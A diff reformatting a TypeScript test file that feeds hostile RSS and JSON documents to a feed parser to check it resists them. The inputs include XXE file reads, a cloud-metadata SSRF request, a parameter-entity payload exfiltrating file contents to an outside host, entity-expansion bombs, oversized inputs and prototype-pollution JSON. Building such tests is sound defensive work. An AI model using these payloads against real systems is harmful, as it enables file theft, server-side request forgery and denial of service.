@@ -5,7 +5,8 @@ import { FeedError } from '../../../plugins/extraction/server/feeds/feed-error';
 import { parseFeed } from '../../../plugins/extraction/server/feeds/parse-feed';
 
 const secret = 'a-secret-of-this-machine';
-const item = (text: string) => `<rss><channel><title>t</title><item><title>${text}</title><link>https://a.cn/1</link></item></channel></rss>`;
+const item = (text: string) =>
+  `<rss><channel><title>t</title><item><title>${text}</title><link>https://a.cn/1</link></item></channel></rss>`;
 
 /** Feeds made to crash, hang or betray a reader, by what they try. At size 1 the biggest has 100 MB. */
 function documents(file: string, size: number): Readonly<Record<string, () => string>> {
@@ -15,9 +16,11 @@ function documents(file: string, size: number): Readonly<Record<string, () => st
   return {
     'external entity, file': () => entity(`<!ENTITY xxe SYSTEM "file://${file}">`),
     'external entity, address': () => entity('<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">'),
-    'external entity, parameter': () => entity(`<!ENTITY % a SYSTEM "file://${file}"><!ENTITY % b "<!ENTITY xxe SYSTEM 'http://a.cn/?%a;'>">%b;`),
+    'external entity, parameter': () =>
+      entity(`<!ENTITY % a SYSTEM "file://${file}"><!ENTITY % b "<!ENTITY xxe SYSTEM 'http://a.cn/?%a;'>">%b;`),
     'external document type': () => `<!DOCTYPE rss SYSTEM "file://${file}">${item('&xxe;')}`,
-    inclusion: () => item(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://${file}"/>`),
+    inclusion: () =>
+      item(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://${file}"/>`),
     'style sheet': () => `<?xml-stylesheet href="file://${file}"?>${item('x')}`,
     'billion laughs': () => `<!DOCTYPE rss [<!ENTITY l0 "lol">${laughs}]>${item('&l12;')}`,
     'quadratic blow-up': () => `<!DOCTYPE rss [<!ENTITY a "${many('a', 100_000)}">]>${item(many('&a;', 100_000))}`,
@@ -28,11 +31,14 @@ function documents(file: string, size: number): Readonly<Record<string, () => st
     'depth of JSON': () => `{"version":"https://jsonfeed.org/version/1.1","items":${many('[', 5_000_000)}`,
     'no end of a tag': () => `<rss ${many('a="b" ', 4_000_000)}`,
     'no end of text': () => `<rss><channel><item><description><![CDATA[${many('x', 30_000_000)}`,
-    'no end of entries': () => `<rss><channel>${many('<item><title>x</title><link>https://a.cn/1</link></item>', 300_000)}`,
-    attributes: () => `<rss ${Array.from({ length: Math.ceil(300_000 * size) }, (_, n) => `a${n}="x"`).join(' ')}><channel/></rss>`,
+    'no end of entries': () =>
+      `<rss><channel>${many('<item><title>x</title><link>https://a.cn/1</link></item>', 300_000)}`,
+    attributes: () =>
+      `<rss ${Array.from({ length: Math.ceil(300_000 * size) }, (_, n) => `a${n}="x"`).join(' ')}><channel/></rss>`,
     entities: () => item(many('&amp;', 4_000_000)),
     comments: () => `${many('<!--', 5_000_000)}${item('x')}`,
-    prototype: () => '{"version":"https://jsonfeed.org/version/1.1","title":"t","__proto__":{"x":1},"items":[{"id":"1","constructor":{"prototype":{"y":1}},"url":"https://a.cn"}]}',
+    prototype: () =>
+      '{"version":"https://jsonfeed.org/version/1.1","title":"t","__proto__":{"x":1},"items":[{"id":"1","constructor":{"prototype":{"y":1}},"url":"https://a.cn"}]}',
     'null characters': () => item(many('\u0000', 1_000_000)),
   };
 }
